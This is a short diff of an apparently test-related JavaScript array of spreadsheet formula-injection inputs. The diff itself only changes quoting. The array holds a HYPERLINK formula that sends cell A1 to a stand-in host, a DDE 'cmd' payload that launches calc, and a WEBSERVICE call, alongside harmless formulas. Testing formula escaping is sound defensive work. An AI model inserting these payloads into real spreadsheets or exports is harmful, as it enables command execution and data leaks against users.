@@ -31,7 +31,7 @@ const starts = [
 const ends = [
   '1+1',
   'HYPERLINK("https://beacon.invalid/?"&A1,"x")',
-  'cmd|\' /C calc\'!A0',
+  "cmd|' /C calc'!A0",
   'WEBSERVICE("https://beacon.invalid")',
   'SUM(A1:A9)',
   'a","b',
